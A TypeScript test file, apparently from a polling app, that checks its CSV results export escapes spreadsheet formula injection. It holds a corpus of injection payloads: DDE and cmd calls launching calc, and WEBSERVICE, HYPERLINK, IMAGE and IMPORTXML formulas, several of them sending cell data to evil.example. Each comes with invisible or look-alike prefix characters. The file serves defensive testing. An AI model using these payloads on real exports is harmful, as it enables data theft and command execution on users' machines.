import { resultsCsv } from '@urna/contracts'
import { resultsOf } from '@urna/core'
import { describe, expect, it } from 'vitest'
import { parseCsv } from './testing/parse-csv.ts'
import { samplePoll, sampleSnapshot } from './testing/sample-polls.ts'

/** What somebody may write into a poll so that the spreadsheet of whoever opens its results runs it: every beginning with every disguise. */

const formulas = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"results")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  '=IMAGE("https://evil.example/"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  '=DDE("cmd";"/C calc";"__DDE_LINK_1")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=EXEC("calc")',
  '=CALL("kernel32","WinExec","JCJ","calc",0)',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '+"a"&A1',
  '+-+-1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-A1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '=',
  '==',
  '=-+@1',
  '{=1+1}'.slice(1),
]
/** `=`, `+`, `-` and `@` as other characters that a spreadsheet, or the input of a keyboard, makes the same. */
const likeFirst: Record<string, readonly string[]> = {
  '=': ['\uFF1D', '\uFE66'],
  '+': ['\uFF0B', '\uFE62'],
  '-': ['\uFF0D', '\uFE63', '\u2212'],
  '@': ['\uFF20', '\uFE6B'],
}
const before = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\v',
  '\f',
  '\0',
  '\x1b',
  '\x7f',
  '\x85',
  '\u00A0',
  '\u00AD',
  '\u034F',
  '\u061C',
  '\u115F',
  '\u1680',
  '\u180E',
  '\u2003',
  '\u200B',
  '\u200E',
  '\u2028',
  '\u202E',
  '\u2060',
  '\u2066',
  '\u2800',
  '\u3000',
  '\u3164',
  '\uFE0F',
  '\uFEFF',
  '\uFFA0',
  '\uFFF9',
  '\u{E0001}',
  '\u{E0100}',
  ' \t\u200B ',
  // A separator of some country, or a line, ends the cell before it.
  'a;',
  'a; ',
  ';;',
  '"a";',
  'a\t',
  'a\n',
  'a\r\n',
  'a;\u3164',
  'a;"',
  'a;""',
  'a; " "',
  'a\t"',
  'a"\r\n',
  'a","',
  'a";"',
  '",',
]

const corpus = formulas.flatMap((formula) => {
  const others = (likeFirst[formula[0] as string] ?? []).map((first) => first + formula.slice(1))
  return [formula, ...others].flatMap((text) => before.map((prefix) => prefix + text))
})

/** Nothing of it is seen, so nothing of it may stand between a spreadsheet and a formula. */
const unseen = /^[\s\p{C}\p{Default_Ignorable_Code_Point}\u2800]+/u

/** Written anew, not taken from what guards the cells: a cell that a spreadsheet might take for a formula, or for the end of the one before. */
function isFormula(cell: string): boolean {
  if (/^[\t\r\n]/.test(cell)) return true
  const first = [...cell.replace(unseen, '')][0]?.normalize('NFKC').replace('\u2212', '-') ?? ''
  return first !== '' && '=+-@'.includes(first)
}

describe('the corpus of formulas', () => {
  it('is taken for formulas where nothing guards it', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(2_000)
    for (const text of ['=1', ' +1', '\uFF201', '\u3164-1', '\t', '\u22121']) expect([text, isFormula(text)]).toEqual([text, true])
    for (const text of ["'=1", 'a=1', '1', '', '(=1)']) expect([text, isFormula(text)]).toEqual([text, false])
  })

  it(`has ${corpus.length} texts, and as title, question and option none is one, read with commas, semicolons or tabs`, () => {
    const polls = corpus.map((text) => resultsOf(samplePoll([text, 'x'], { title: text, question: text }), sampleSnapshot([]), 0))
    const text = [...resultsCsv(polls, { bom: true })].join('').slice(1)
    const rows = parseCsv(text)
    expect(rows).toHaveLength(1 + 2 * corpus.length)
    expect(rows.every((row) => row.length === 7)).toBe(true)
    for (const separator of [',', ';', '\t']) {
      const formulasFound = parseCsv(text, separator).flat().filter(isFormula)
      expect([separator, formulasFound.slice(0, 5)]).toEqual([separator, []])
    }
    // Nothing is lost but that apostrophes were added.
    for (const [index, one] of corpus.entries()) expect(rows[1 + 2 * index]?.[3]?.replaceAll("'", '')).toBe(one.replaceAll("'", ''))
  })
})
